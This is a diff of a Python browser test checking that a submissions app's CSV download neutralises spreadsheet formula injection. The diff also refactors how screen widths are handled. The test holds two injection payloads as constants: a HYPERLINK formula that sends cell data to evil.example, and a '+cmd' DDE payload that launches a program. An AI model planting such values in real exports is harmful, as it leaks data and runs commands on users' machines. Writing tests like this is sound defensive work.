@@ -17,11 +17,10 @@ from submissions.records import Identity
 from submissions.request import SubmitRequest
 from tests.support import demo
 from tests.support.submissions import form
-from tests.ui.conftest import shot, start_app
+from tests.ui.conftest import WIDTHS, shot, start_app
 
 FORMULA_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FORMULA_TEAM = "+cmd|' /C calc'!A0"
-WIDTHS = {"desktop": (1440, 900), "phone": (390, 844)}
 FIGURE = re.compile(r"^-?\d+(\.\d+)?$")
 
 
@@ -62,7 +61,7 @@ def test_download_csv_quotes_formulas_and_carries_figures_as_shown(browser, serv
         context.close()
     cells = [cell for row in rows[1:] for cell in row]
     assert "'" + FORMULA_MODEL in cells
-    no_team = width == "phone" and "Team" not in rows[0]  # a phone's table has no team column
+    no_team = width == 390 and "Team" not in rows[0]  # a phone's table has no team column
     assert "'" + FORMULA_TEAM in cells or no_team
     assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not FIGURE.match(c))]
     figures = [c for c in cells if FIGURE.match(c) and "." in c]
